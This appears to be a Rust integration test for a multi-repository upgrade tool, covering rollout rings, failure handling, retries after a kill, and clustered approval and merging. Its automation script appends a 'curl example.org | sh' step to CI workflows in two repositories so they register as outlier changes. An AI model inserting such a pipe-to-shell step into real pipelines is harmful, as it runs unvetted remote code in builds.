//! A fleet over many repositories: rings, three kinds of trouble, one command to try again, clusters, approval
//! and merge by cluster, and a kill in the middle of it. `WINDLASS_FLEET_SIZE` says over how many; 40 unless said, 1,000 in a soak.

use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    path::{Path, PathBuf},
};

use serde_json::Value;

use crate::world::{Up, World, git};

const AUTOMATION: &str = r#"name: upgrade
targets: { labels: [fleet], except: ["other-*"], most: 100000 }
rollout:
  rings: [{ label: canary, most: 2 }, "10%", rest]
  advance_when: { success: ">=80%" }
  stop_when: [{ failures: ">50%", over: fleet }]
limits: { parallel: 8 }
steps:
  - id: verify
    run: test ! -e broken
  - run: |
      case "$(cat kind)" in
        package) sed -i 's/"lodash": ".*"/"lodash": "4.18.0"/' package.json ;;
        module) sed -i 's/^import imp$/import importlib/; s/imp\.reload(/importlib.reload(/' app/*.py ;;
        notice) printf '\n## Security\n\nReport what you find to security@example.org.\n' >> README.md ;;
        image) sed -i 's/^FROM debian:11$/FROM debian:12/; s/python3-minimal/python3/' Dockerfile ;;
      esac
      if [ -e odd ]; then echo '      - run: curl example.org | sh' >> .github/workflows/ci.yml; fi
  - pull_request: { branch: windlass/upgrade, title: "Upgrade ${{ target.repository }}" }
"#;

/// The trouble of every twentieth repository.
const RED: usize = 7;
const CONFLICT: usize = 11;
const UNREACHABLE: usize = 15;

struct Fleet {
    world: World,
    size: usize,
    ids: Vec<String>,
}

fn name(n: usize) -> String {
    format!("repo-{n:04}")
}

fn size() -> usize {
    let usual = if std::env::var_os("WINDLASS_TEST_SOAK").is_some() { 1_000 } else { 40 };
    let size = std::env::var("WINDLASS_FLEET_SIZE").ok();
    size.map_or(usual, |size| size.parse().expect("WINDLASS_FLEET_SIZE is a number"))
}

/// The files of a repository.
fn files(n: usize) -> Vec<(String, String)> {
    let (kind, own) = match n % 4 {
        0 => (
            "package",
            vec![(
                "package.json",
                format!(
                    "{{\n  \"name\": \"p{n}\",\n  \"dependencies\": {{\n    \"lodash\": \"4.17.{n}\"\n  }}\n}}\n"
                ),
            )],
        ),
        1 => (
            "module",
            vec![(
                "app/main.py",
                format!("import imp\n\n\ndef again_{n}(module):\n    return imp.reload(module)\n"),
            )],
        ),
        2 => ("notice", vec![("README.md", format!("# Project {n}\n\nWhat it does.\n"))]),
        _ => (
            "image",
            vec![(
                "Dockerfile",
                format!("FROM debian:11\nRUN apt-get install -y python3-minimal\nENV NAME=n{n}\n"),
            )],
        ),
    };
    let mut files = vec![("kind".to_owned(), kind.to_owned())];
    files.extend(own.into_iter().map(|(path, text)| (path.to_owned(), text)));
    files.push((
        ".github/workflows/ci.yml".into(),
        "jobs:\n  test:\n    steps:\n      - run: make\n".into(),
    ));
    if n % 20 == RED {
        files.push(("broken".into(), String::new()));
    }
    if is_odd(n) {
        files.push(("odd".into(), String::new()));
    }
    files
}

/// Two of different kinds.
fn is_odd(n: usize) -> bool {
    n == 4 || n == 6
}

impl Fleet {
    fn new() -> (Self, Up) {
        let world = World::new();
        fs::write(world.path("upgrade.yaml"), AUTOMATION).expect("written");
        let up = world.up(&["--capacity", "4", "--lease-seconds", "3", "--ahead", "0"]);
        let mut fleet = Self { world, size: size(), ids: Vec::new() };
        for n in 0..fleet.size {
            let id = fleet.add(&name(n), n);
            fleet.ids.push(id);
        }
        fleet.add("other-1", 0);
        for n in (0..fleet.size).filter(|n| n % 20 == CONFLICT) {
            fleet.take_branch(n);
        }
        for n in (0..fleet.size).filter(|n| n % 20 == UNREACHABLE) {
            fs::rename(fleet.source(n), fleet.away(n)).expect("moved away");
        }
        (fleet, up)
    }

    fn add(&self, name: &str, n: usize) -> String {
        let files = files(n);
        let files: Vec<(&str, &str)> =
            files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
        let path = self.world.repository(name, &files);
        let path = path.to_str().expect("UTF-8");
        let project = self.world.json(&["--json", "project", "add", path]);
        let labels = if n < 2 { "fleet,canary" } else { "fleet" };
        self.world.run(&["project", "set", name, "--labels", labels]).says(0, &[]);
        project["id"].as_str().expect("an id").to_owned()
    }

    fn source(&self, n: usize) -> PathBuf {
        self.world.path(&name(n))
    }

    fn away(&self, n: usize) -> PathBuf {
        self.world.path(&format!("{}-away", name(n)))
    }

    fn at_forge(&self, n: usize) -> PathBuf {
        self.world.path(&format!("data/repositories/{}.git", self.ids[n]))
    }

    /// Somebody else's work is on the branch that the fleet wants to push.
    fn take_branch(&self, n: usize) {
        let forge = self.at_forge(n);
        let tree = git(&forge, &["rev-parse", "main^{tree}"]);
        let commit = git(&forge, &["commit-tree", "-m", "mine", &tree]);
        git(&forge, &["update-ref", "refs/heads/windlass/upgrade", &commit]);
    }

    fn start(&self) -> String {
        let arguments = ["--json", "automation", "run", "upgrade.yaml", "--detach"];
        let started = self.world.json(&arguments);
        assert_eq!(started["job_ids"], serde_json::json!([]), "its targets are rows first");
        started["run_id"].as_str().expect("a run").to_owned()
    }

    fn show(&self, run: &str) -> Value {
        self.world.json(&["--json", "fleet", "show", run])
    }

    fn targets(&self, run: &str, more: &[&str]) -> Vec<Value> {
        let mut all = Vec::new();
        let mut cursor: Option<String> = None;
        loop {
            let mut arguments = vec!["--json", "fleet", "targets", run, "--limit", "200"];
            arguments.extend(more);
            if let Some(cursor) = &cursor {
                arguments.extend(["--cursor", cursor]);
            }
            let page = self.world.json(&arguments);
            all.extend(page["items"].as_array().expect("a list").clone());
            match page["next"].as_str() {
                Some(next) => cursor = Some(next.to_owned()),
                None => return all,
            }
        }
    }

    fn names(&self, run: &str, more: &[&str]) -> BTreeSet<String> {
        let targets = self.targets(run, more);
        targets.iter().map(|it| it["repository"].as_str().expect("a name").to_owned()).collect()
    }

    fn every_twentieth(&self, place: usize) -> BTreeSet<String> {
        (0..self.size).filter(|n| n % 20 == place).map(name).collect()
    }

    fn pull_requests(&self) -> Vec<Value> {
        let all: Vec<Value> = (0..self.size)
            .flat_map(|n| {
                let list = ["--json", "review", "list", "--project", &name(n), "--state", "open"];
                let list = self.world.json(&list);
                list["items"].as_array().expect("a list").clone()
            })
            .collect();
        all
    }
}

fn count(fleet: &Value, name: &str) -> u64 {
    fleet["counts"][name].as_u64().expect("a count")
}

#[test]
fn a_fleet_goes_in_rings_survives_a_kill_is_tried_again_and_landed_by_cluster() {
    let (fleet, up) = Fleet::new();
    let (world, size) = (&fleet.world, fleet.size as u64);
    let run = fleet.start();

    // Half of it has ended: kill everything, and start again.
    let half = |fleet: &Value| count(fleet, "succeeded") + count(fleet, "failed") >= size / 2;
    while !half(&fleet.show(&run)) {}
    up.kill();
    let _up = world.up(&["--capacity", "4", "--lease-seconds", "3", "--ahead", "0"]);
    world.run(&["fleet", "watch", &run]).says(4, &["settled"]);

    // None is missed, none doubled, and each failure is where its trouble is.
    let shown = fleet.show(&run);
    assert_eq!(count(&shown, "targets"), size, "{shown}");
    for (trouble, place) in [("red", RED), ("conflict", CONFLICT), ("unreachable", UNREACHABLE)] {
        let troubled = fleet.targets(&run, &["--trouble", trouble]);
        let names: BTreeSet<String> = troubled
            .iter()
            .map(|it| it["repository"].as_str().expect("a name").to_owned())
            .collect();
        assert_eq!(names, fleet.every_twentieth(place), "{trouble}: {troubled:?}");
    }
    let failed: BTreeSet<String> = fleet.names(&run, &["--state", "failed"]);
    assert_eq!(count(&shown, "succeeded") + failed.len() as u64, size, "{shown}");
    let targets = fleet.targets(&run, &[]);
    assert!(targets.iter().all(|target| target["attempt"] == 1), "begun once each");
    let jobs: BTreeSet<&str> =
        targets.iter().filter_map(|target| target["job_id"].as_str()).collect();
    assert_eq!(jobs.len(), fleet.size - fleet.every_twentieth(UNREACHABLE).len());
    let canaries: Vec<&str> =
        targets[..2].iter().filter_map(|target| target["repository"].as_str()).collect();
    assert_eq!(canaries, [name(0), name(1)]);
    let history = shown["history"].to_string();
    assert!(history.contains("ring 2 is open") && history.contains("ring 3 is open"), "{history}");

    // What stood in the way is put right, and one command tries all of it again.
    for n in 0..fleet.size {
        match n % 20 {
            RED => {
                git(&fleet.source(n), &["rm", "-q", "broken"]);
                git(&fleet.source(n), &["commit", "-qm", "mended"]);
            }
            CONFLICT => {
                let forge = fleet.at_forge(n);
                git(&forge, &["update-ref", "-d", "refs/heads/windlass/upgrade"]);
            }
            UNREACHABLE => fs::rename(fleet.away(n), fleet.source(n)).expect("moved back"),
            _ => {}
        }
    }
    world.run(&["fleet", "retry", &run]).says(0, &["going"]);
    world
        .run(&["fleet", "watch", &run])
        .says(0, &["settled", &format!("{size} of {size} ended, 0 failed")]);
    let pulls = fleet.pull_requests();
    assert_eq!(pulls.len() as u64, size, "one change each");
    world.run(&["fleet", "retry", &run]).says(1, &["no target failed like that"]);

    landed_by_cluster(&fleet, &run);
}

fn landed_by_cluster(fleet: &Fleet, run: &str) {
    let (world, size) = (&fleet.world, fleet.size as u64);
    let clusters = world.json(&["--json", "fleet", "clusters", run]);
    let clusters = clusters.as_array().expect("a list");
    let mut kinds: BTreeMap<usize, &Value> = BTreeMap::new();
    for cluster in clusters {
        let exemplar = cluster["exemplar"]["repository"].as_str().expect("a name");
        let n: usize = exemplar.trim_start_matches("repo-").parse().expect("a number");
        kinds.insert(n % 4, cluster);
    }
    assert_eq!((clusters.len(), kinds.len()), (4, 4), "one for each kind: {clusters:?}");
    let odd: BTreeSet<u64> = clusters
        .iter()
        .flat_map(|cluster| cluster["outliers"].as_array().expect("a list"))
        .map(|outlier| {
            let name = outlier["repository"].as_str().expect("a name");
            name.trim_start_matches("repo-").parse().expect("a number")
        })
        .collect();
    assert_eq!(odd, BTreeSet::from([4, 6]), "{clusters:?}");

    // A base that moves on where the change is: found when it is merged, and nowhere else.
    let moved = 8;
    fs::write(
        fleet.source(moved).join("package.json"),
        "{ \"dependencies\": { \"lodash\": \"5.0.0\" } }\n",
    )
    .expect("written");
    git(&fleet.source(moved), &["commit", "-qam", "another way"]);

    for cluster in clusters {
        let id = cluster["id"].as_str().expect("a name");
        let shown = world.json(&["--json", "fleet", "clusters", run, id]);
        let (all, sample) = (shown["members"].as_array(), shown["sample"].as_array());
        assert_eq!(all.map(Vec::len), cluster["changes"].as_u64().map(|n| n as usize));
        assert!(sample.is_some_and(|sample| !sample.is_empty()), "{shown}");
        world
            .run(&["fleet", "approve", run, "--cluster", id, "-m", "good"])
            .says(0, &["went well"]);
    }
    let shown = fleet.show(run);
    assert_eq!(shown["changes"]["approved"], size - 2, "the outliers wait: {shown}");
    for outlier in
        clusters.iter().flat_map(|cluster| cluster["outliers"].as_array().expect("a list"))
    {
        let target = outlier["target"].to_string();
        world.run(&["fleet", "approve", run, "--target", &target]).says(0, &["1 of 1 went well"]);
    }
    world
        .run(&["fleet", "merge", run])
        .says(8, &[&format!("{} of {size} went well", size - 1), "conflict"]);
    let shown = fleet.show(run);
    assert_eq!(
        (&shown["changes"]["merged"], &shown["changes"]["approved"]),
        (&(size - 1).into(), &1.into())
    );
    world.run(&["fleet", "close", run]).says(0, &["1 of 1 went well"]);
    assert_eq!(fleet.show(run)["changes"]["closed"], 1);
    let merged = git(&fleet.at_forge(1), &["show", "main:app/main.py"]);
    assert!(merged.starts_with("import importlib"), "{merged}");
    assert!(Path::new(&fleet.source(1)).exists());
}

#[test]
fn a_fleet_waits_goes_on_begins_a_ring_by_hand_and_is_stopped() {
    let world = World::new();
    let automation = AUTOMATION
        .replace("targets: { labels: [fleet], except: [\"other-*\"], most: 100000 }\n", "")
        .replace("{ success: \">=80%\" }", "{ reviewed: 1 }");
    fs::write(world.path("upgrade.yaml"), automation).expect("written");
    let _up = world.up(&["--ahead", "0"]);
    for n in 0..5 {
        let files = files(n);
        let files: Vec<(&str, &str)> =
            files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
        world.repository(&name(n), &files);
    }
    let names: Vec<String> = (0..5).map(name).collect();
    let mut arguments = vec!["--json", "automation", "run", "upgrade.yaml", "--detach"];
    for name in &names {
        arguments.extend(["--repo", name]);
    }
    let started = world.json(&arguments);
    let run = started["run_id"].as_str().expect("a run");
    let show = || world.json(&["--json", "fleet", "show", run]);
    // No project is a canary: the first ring is passed, the second has one target.
    while count(&show(), "succeeded") < 1 {}
    let shown = show();
    let unmet = shown["rings"][1]["unmet"].to_string();
    assert!(unmet.contains("0 changes are approved or merged, 1 must be"), "{shown}");
    assert_eq!(count(&shown, "planned"), 4, "{shown}");
    world.run(&["fleet", "pause", run, "--reason", "lunch"]).says(0, &["held", "lunch"]);
    world.run(&["fleet", "advance", run, "--reason", "fine"]).says(1, &["let it go on first"]);
    world.run(&["fleet", "resume", run]).says(0, &["going"]);
    world.run(&["fleet", "advance", run]).says(1, &["say why"]);
    world.run(&["fleet", "approve", run]).says(1, &["say which"]);
    world.run(&["fleet", "advance", run, "--reason", "it is fine"]).says(0, &["going"]);
    world.run(&["fleet", "watch", run]).says(0, &["5 of 5 ended"]);
    world.run(&["fleet", "cancel", run]).says(1, &["there is nothing to cancel"]);
    let again = world.json(&arguments);
    let run = again["run_id"].as_str().expect("a run");
    world.run(&["fleet", "cancel", run, "--reason", "no more"]).says(0, &["cancelled", "no more"]);
    world.run(&["fleet", "watch", run]).says(5, &["cancelled"]);
    world.run(&["fleet", "resume", run]).says(1, &["the fleet was cancelled"]);
    let list = world.run(&["fleet", "list"]);
    list.says(0, &["settled", "cancelled", "upgrade"]);
    let runs = world.json(&["--json", "runs"]);
    assert_eq!(runs["items"][0]["state"], "cancelled", "{runs}");
    world.run(&["fleet", "show", "run_nonsense"]).says(1, &["windlass fleet list"]);
}
